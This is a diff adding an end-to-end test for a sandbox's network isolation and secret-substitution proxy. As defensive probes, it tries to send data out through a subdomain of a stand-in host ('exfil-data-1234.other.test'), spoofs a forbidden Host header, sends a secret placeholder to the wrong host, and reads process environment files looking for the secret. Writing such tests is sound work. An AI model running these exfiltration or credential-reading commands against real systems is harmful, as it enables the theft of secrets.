@@ -1,0 +1,100 @@
+// The network seal end to end: a real gVisor sandbox, the engine's DNS and proxy, and real
+// servers in a network namespace this test creates (test/helpers/net-lab.ts).
+import assert from "node:assert/strict";
+import { after, before, describe, test } from "node:test";
+import { Sandbox, type Client } from "../../src/sdk/index.js";
+import { newClient, PYTHON, setUpE2E } from "../helpers/e2e.js";
+import { startNetLab, type NetLab } from "../helpers/net-lab.js";
+
+const SECRET = "sk-real-value-7f3a9c";
+
+/** A guest-side client: prints {"status", "body"} or {"error"} for one request. */
+const FETCH_PY = `
+import json, sys, urllib.request, urllib.error
+url = sys.argv[1]
+headers = dict(h.split(":", 1) for h in sys.argv[2:])
+try:
+    r = urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=20)
+    print(json.dumps({"status": r.status, "body": r.read().decode("latin-1")}))
+except urllib.error.HTTPError as e:
+    print(json.dumps({"status": e.code, "body": e.read().decode("latin-1")}))
+except Exception as e:
+    print(json.dumps({"error": type(e).__name__ + ": " + str(e)}))
+`;
+
+interface Fetched { status?: number; body?: string; error?: string }
+
+describe("network seal", () => {
+  let lab: NetLab;
+  let client: Client;
+  const events: Array<Record<string, unknown>> = [];
+
+  const fetch = async (url: string, ...headers: string[]): Promise<Fetched> => {
+    const args = [url, ...headers].map((a) => `'${a}'`).join(" ");
+    const r = await client.exec(`python3 /tmp/fetch.py ${args}`);
+    assert.equal(r.exitCode, 0, r.stderr);
+    return JSON.parse(r.stdout) as Fetched;
+  };
+
+  before(async () => {
+    await setUpE2E();
+    lab = await startNetLab();
+    process.env.MATCHLOCK_TEST_HOSTS = lab.hostsFile;
+    process.env.MATCHLOCK_UPSTREAM_CA = lab.caFile;
+    client = newClient();
+    client.onEvent((e) => events.push(e as unknown as Record<string, unknown>));
+    await client.launch(new Sandbox(PYTHON).allowHost("Allowed.test", "*.wild.test").addSecret("API_KEY", SECRET, "secret.test"));
+    await client.writeFile("/tmp/fetch.py", FETCH_PY);
+  });
+  after(async () => {
+    await client?.close();
+    await client?.remove();
+    await lab?.stop();
+  });
+
+  test("an allowed host is reached over HTTP and HTTPS (TLS intercepted, trusted by the guest)", async () => {
+    assert.deepEqual(await fetch("http://allowed.test/hello"), { status: 200, body: "hello from allowed.test\n" });
+    assert.deepEqual(await fetch("https://allowed.test/hello"), { status: 200, body: "hello from allowed.test\n" });
+    assert.deepEqual(await fetch("https://sub.wild.test/hello"), { status: 200, body: "hello from sub.wild.test\n" });
+  });
+
+  test("a host not allowed gets NXDOMAIN from the engine's DNS", async () => {
+    const r = await client.exec(`python3 -c 'import socket; socket.gethostbyname("other.test")'`);
+    assert.notEqual(r.exitCode, 0);
+    assert.match(r.stderr, /Name or service not known|nodename nor servname/);
+    assert.match((await fetch("https://exfil-data-1234.other.test/")).error ?? "", /URLError/);
+  });
+
+  test("a direct connection to an IP address goes nowhere", async () => {
+    const r = await fetch(`http://${lab.serverIp}/hello`);
+    assert.ok(r.error, `expected a failure, got ${JSON.stringify(r)}`);
+  });
+
+  test("Host header of a forbidden name on an allowed name's address is refused with 403", async () => {
+    const r = await fetch("http://allowed.test/hello", "Host:other.test");
+    assert.equal(r.status, 403);
+    assert.equal(r.body, "Blocked by policy");
+    assert.ok(events.some((e) => (e.network as Record<string, unknown>)?.blocked === true));
+  });
+
+  test("the secret is replaced for its host, in headers and query", async () => {
+    const r = await client.exec(`python3 /tmp/fetch.py "https://secret.test/echo?key=$API_KEY" "Authorization:Bearer $API_KEY"`);
+    const echoed = JSON.parse(JSON.parse(r.stdout).body) as { url: string; headers: Record<string, string> };
+    assert.equal(echoed.url, `/echo?key=${SECRET}`);
+    assert.equal(echoed.headers.authorization, `Bearer ${SECRET}`);
+  });
+
+  test("the secret's placeholder to another allowed host is blocked with 403 and an event", async () => {
+    const r = await client.exec(`python3 /tmp/fetch.py "https://allowed.test/echo" "Authorization:Bearer $API_KEY"`);
+    assert.deepEqual(JSON.parse(r.stdout), { status: 403, body: "Blocked by policy" });
+    assert.ok(events.some((e) => (e.network as Record<string, unknown>)?.block_reason === "secret placeholder sent to unauthorized host"));
+  });
+
+  test("the real secret value is nowhere the guest can read", async () => {
+    const env = await client.exec("env; cat /proc/self/environ /proc/1/environ 2>/dev/null | tr '\\0' '\\n'");
+    assert.match(env.stdout, /API_KEY=SANDBOX_SECRET_[0-9a-f]{32}/);
+    assert.ok(!env.stdout.includes(SECRET));
+    const grep = await client.exec(`grep -rlE '${SECRET.slice(0, -1)}[${SECRET.slice(-1)}]' /etc /tmp /root /workspace /proc/self 2>/dev/null; echo done`);
+    assert.equal(grep.stdout, "done\n");
+  });
+});
